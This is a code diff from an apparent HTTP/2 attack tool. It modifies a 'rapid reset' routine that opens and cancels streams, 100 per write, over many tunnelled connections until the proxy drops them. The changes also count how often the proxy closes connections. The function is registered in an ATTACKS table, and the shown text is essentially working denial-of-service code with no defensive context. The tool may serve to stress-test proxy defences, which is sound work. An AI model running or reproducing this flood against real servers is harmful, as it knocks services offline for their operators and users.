@@ -141,12 +141,13 @@ async def _rapid_reset(job: dict, end: float, counts: dict[str, int]) -> None:
     async def one() -> None:
         while time.perf_counter() < end:
             counts["connections"] += 1
-            counts["streams"] += await _reset_streams(job, end, counts)
+            await _reset_streams(job, end, counts)
+            counts["closed_by_proxy"] += time.perf_counter() < end
 
     await asyncio.gather(*(one() for _ in range(job["conns"])))
 
 
-async def _reset_streams(job: dict, end: float, counts: dict[str, int]) -> int:
+async def _reset_streams(job: dict, end: float, counts: dict[str, int]) -> None:
     """One tunnel: open and reset streams, 100 to a write, until the proxy closes it."""
     reader, writer = await _h2_tunnel(job)
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
@@ -164,7 +165,8 @@ async def _reset_streams(job: dict, end: float, counts: dict[str, int]) -> int:
         try:
             while data := await reader.read(65536):
                 events = conn.receive_data(data)
-                writer.write(conn.data_to_send())
+                if not writer.is_closing():
+                    writer.write(conn.data_to_send())
                 if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                     break
         except (OSError, h2.exceptions.ProtocolError):
@@ -172,23 +174,20 @@ async def _reset_streams(job: dict, end: float, counts: dict[str, int]) -> int:
         terminated.set()
 
     reading = asyncio.ensure_future(read())
-    sent = 0
     try:
-        while time.perf_counter() < end and not terminated.is_set():
+        while time.perf_counter() < end and not terminated.is_set() and not writer.is_closing():
             for _ in range(100):
                 stream_id = conn.get_next_available_stream_id()
                 conn.send_headers(stream_id, headers, end_stream=True)
                 conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
             writer.write(conn.data_to_send())
+            counts["streams"] += 100
             await writer.drain()
             await asyncio.sleep(0)  # drain does not yield while the buffer has room
-            sent += 100
     except (OSError, h2.exceptions.ProtocolError):
         pass
-    counts["closed_by_proxy"] += terminated.is_set()
     reading.cancel()
     writer.close()
-    return sent
 
 
 ATTACKS: dict[str, Callable[[dict, float, dict[str, int]], Awaitable[None]]] = {
